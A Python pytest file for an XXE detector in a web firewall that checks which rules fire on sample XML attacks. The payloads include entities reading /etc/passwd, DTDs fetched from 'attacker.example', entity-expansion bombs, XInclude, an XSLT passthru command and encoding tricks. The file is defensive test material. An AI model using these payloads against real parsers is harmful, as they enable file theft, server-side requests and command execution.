"""XXE detector: external entities and DTDs, parameter entities, expansion, XInclude, XSLT, encodings."""

from __future__ import annotations

import pytest
from family_cases import family_suite

from hullguard.firewall.detectors import code, xpath, xxe
from hullguard.firewall.detectors.base import ScanContext

CTX = ScanContext()
XSLT = (
    '<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform">'
    "<xsl:value-of select=\"php:function('passthru','id')\"/></xsl:stylesheet>"
)


@pytest.mark.parametrize(
    ("payload", "rule_id"),
    [
        ('<!DOCTYPE foo [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><foo>&xxe;</foo>', "HG-XXE-001"),
        ('<!DOCTYPE x [<!ENTITY % d SYSTEM "http://attacker.example/e.dtd"> %d;]>', "HG-XXE-001"),
        ('<!DOCTYPE x SYSTEM "http://attacker.example/x.dtd"><x/>', "HG-XXE-001"),
        ('<!DOCTYPE l [<!ENTITY a "aa"><!ENTITY b "&a;&a;&a;"><!ENTITY c "&b;&b;&b;">]><l>&c;</l>', "HG-XXE-002"),
        ('<!DOCTYPE xxe [<!ENTITY foo "aaaaaa">]>', "HG-XXE-003"),
        ('<x xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="/etc/passwd"/></x>', "HG-XXE-004"),
        (XSLT, "HG-XXE-005"),
        ('<?xml version="1.0" encoding="UTF-7"?><x/>', "HG-XXE-006"),
        ('<HTML xmlns:xss><?import namespace="xss" implementation="http://ha.ckers.org/xss.htc">', "HG-XXE-007"),
    ],
)
def test_rules_fire_on_real_payloads(payload: str, rule_id: str) -> None:
    found = xxe.scan(payload, CTX)
    assert found is not None and found.rule_id == rule_id, found


def test_utf16_bytes_read_as_text_are_seen_through() -> None:
    doc = '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
    assert xxe.scan("\x00".join(doc), CTX) is not None


def test_ordinary_processing_instructions_pass() -> None:
    assert xxe.scan('<?xml-stylesheet type="text/css" href="style.css"?><note>import this</note>', CTX) is None
    assert xxe.scan("<?php echo 'implementation=1'; ?>", CTX) is None


def test_plain_xml_without_dtd_passes() -> None:
    assert xxe.scan('<?xml version="1.0"?><order><id>1</id></order>', CTX) is None
    assert xxe.scan("<!doctype html><html></html>", CTX) is None


def test_utf16_declaration_only_at_paranoia_two() -> None:
    doc = '<?xml version="1.0" encoding="utf-16"?><a/>'
    assert xxe.scan(doc, CTX) is None
    assert xxe.scan(doc, ScanContext(paranoia=2)) is not None


(
    test_corpus_and_handwritten_detection_rate,
    test_handwritten_benign_values_pass,
    test_benign_query_strings_false_positive_rate,
    test_prefilter_is_a_necessary_condition,
    test_adversarial_inputs_complete,
    test_rule_catalogue_is_complete,
) = family_suite(
    xxe,
    "xxe",
    ["<!ENTITY ", "<!DOCTYPE x [", "&a;", "%a;", "<!", "<\x00!\x00", '<!ENTITY a "&b;&b;">'],
    40,
    corpus_companions=(xpath, code),
)
